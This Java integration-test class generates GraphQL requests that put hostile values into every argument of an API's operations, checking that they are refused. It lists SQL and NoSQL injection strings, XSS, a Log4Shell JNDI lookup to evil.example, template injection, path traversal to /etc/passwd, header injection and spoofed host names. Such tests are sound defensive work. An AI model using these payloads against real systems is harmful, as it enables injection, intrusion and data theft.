package org.actionsync.it;

import static java.util.Objects.requireNonNull;

import jakarta.json.Json;
import jakarta.json.JsonString;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;

/**
 * Hostile values in every argument of every operation, by the schema: the others are such that the
 * operation would be carried out, so that it is this one it has to be refused for.
 */
final class HostileArguments {

  private static final String LONG = "a".repeat(10_000);

  /** JSON, because a variable can be anything. None of these can be meant, whatever for. */
  private static final List<String> NEVER_MEANT =
      List.of(
          "\"\\u0000\"",
          "\"a\\u0000b\"",
          "\"a\\r\\nSet-Cookie: b=c\"",
          "\"\\u001b[31m\"",
          "\"" + LONG + "\"",
          "\"\\ud800\"",
          "\"a\\udc00b\"",
          "{}",
          "{\"$ne\": null}",
          "[[\"a\"]]",
          "-1",
          "1e400");

  /** Names, if they stand where a name is asked for. */
  private static final List<String> TEXTS =
      List.of(
          "\"\"",
          "\" \"",
          "\"' or '1'='1\"",
          "\"'; drop table audit_entry; --\"",
          "\"\\\" or \\\"\\\"=\\\"\"",
          "\"1; select pg_sleep(30)\"",
          "\"' union select key_cipher from network_group --\"",
          "\"%\"",
          "\"_\"",
          "\"\\\\\"",
          "\"%' escape '\"",
          "\"{\\\"$gt\\\": \\\"\\\"}\"",
          "\"\\\"}, \\\"admin\\\": true, {\\\"\"",
          "\"<script>alert(1)</script>\"",
          "\"${jndi:ldap://evil.example/a}\"",
          "\"#{7*7}${7*7}{{7*7}}\"",
          "\"../../../../etc/passwd\"",
          "\"%00%0d%0a\"",
          "\"\\u202egnp.exe\"",
          "\"\\ud83d\\udca9\"",
          "\"null\"",
          "\"undefined\"",
          "\"9223372036854775808\"");

  /** What leads elsewhere, if it becomes part of a host. */
  private static final List<String> ELSEWHERE =
      List.of(
          "evil.example",
          "evil.example/",
          "evil.example#",
          "evil.example?",
          "evil.example:443",
          "x@evil.example",
          "x:y@evil.example",
          "a/../b",
          "../a",
          "a/b",
          "a\\b",
          "a?b",
          "a#b",
          "a.",
          ".a",
          "a..b",
          "a.b",
          "-a",
          "a-",
          "a_b",
          "a b",
          "a%2eb",
          "%65vil",
          "a%00",
          "evil\u3002example",
          "evil\uff0eexample",
          "\u0435vil",
          "\uff41",
          "127.0.0.1",
          "[::1]",
          "0x7f.1",
          "localhost.",
          "https://evil.example",
          "https://evil.example/.actionbuilder.org",
          "https://x@evil.example/.actionbuilder.org",
          "https://evil.example#.actionbuilder.org",
          "//evil.example",
          "javascript:alert(1)",
          "file:///etc/passwd",
          "a".repeat(64),
          "{subdomain}");

  private final Schema schema;
  private final Map<String, String> known;

  /** The {@code known} things there are, in GraphQL, by what leads to them in the schema. */
  HostileArguments(Schema schema, Map<String, String> known) {
    this.schema = schema;
    this.known = known;
  }

  List<Attack> all() {
    List<Attack> all = new ArrayList<>();
    for (Schema.Operation operation : schema.operations()) {
      for (Schema.Leaf leaf : schema.leaves(operation)) {
        for (String value : valuesFor(operation, leaf)) {
          all.add(attack(operation, leaf, value));
        }
      }
    }
    return all;
  }

  private static List<String> valuesFor(Schema.Operation operation, Schema.Leaf leaf) {
    List<String> values = new ArrayList<>(NEVER_MEANT);
    boolean mayBeAName =
        operation.isMutation() && leaf.name().toLowerCase(java.util.Locale.ROOT).endsWith("name");
    if (!mayBeAName || operation.name().equals("settleReview")) {
      values.addAll(TEXTS);
    }
    if (leaf.name().equals("search")) {
      values.removeAll(List.of("\"\"", "\" \"")); // which ask for all
    }
    if (leaf.name().equals("subdomain")) {
      ELSEWHERE.forEach(each -> values.add(Json.createValue(each).toString()));
    }
    return values;
  }

  private Attack attack(Schema.Operation operation, Schema.Leaf leaf, String value) {
    String arguments =
        operation.arguments().stream()
            .map(argument -> written(operation, argument.name(), argument.type(), leaf, ""))
            .filter(text -> !text.isEmpty())
            .collect(Collectors.joining(", "));
    String query =
        (operation.isMutation() ? "mutation" : "query")
            + "($hostile: "
            + leaf.type()
            + ") { "
            + operation.name()
            + "("
            + arguments
            + ")"
            + selection(operation)
            + " }";
    JsonString quoted = Json.createValue(query);
    String body = "{\"query\": " + quoted + ", \"variables\": {\"hostile\": " + value + "}}";
    String shown = value.length() > 60 ? value.substring(0, 60) + "…" : value;
    return Attack.body(operation.name() + " " + leaf.path() + " = " + shown, body)
        .ending(operation.isMutation() ? Attack.End.REFUSED : Attack.End.OR_FINDS_NOTHING);
  }

  private String selection(Schema.Operation operation) {
    if (operation.type().endsWith("Connection")) {
      return " { nodes { __typename } }";
    }
    return Set.of("Boolean", "ID", "String").contains(operation.type()) ? "" : " { __typename }";
  }

  /** An argument, or a field of an input; empty for one that need not be given. */
  private String written(
      Schema.Operation operation, String name, String type, Schema.Leaf leaf, String within) {
    String path = within.isEmpty() ? name : within + "." + name;
    String named = type.replaceAll("[\\[\\]!]", "");
    if (path.equals(leaf.path())) {
      return name + ": $hostile";
    }
    if (schema.isInput(named) && (type.endsWith("!") || leaf.path().startsWith(path + "."))) {
      String fields =
          schema.fieldsOf(named).stream()
              .map(field -> written(operation, field.name(), field.type(), leaf, path))
              .filter(text -> !text.isEmpty())
              .collect(Collectors.joining(", "));
      return name + ": " + (type.startsWith("[") ? "[{" + fields + "}]" : "{" + fields + "}");
    }
    return type.endsWith("!") ? name + ": " + fine(operation, name, named) : "";
  }

  private String fine(Schema.Operation operation, String name, String type) {
    String ofOperation = known.get(operation.name() + "." + name);
    return requireNonNull(
        ofOperation != null ? ofOperation : known.getOrDefault(name, known.get(type)),
        () -> "Nothing fine is known for " + operation.name() + "." + name + " of type " + type);
  }
}
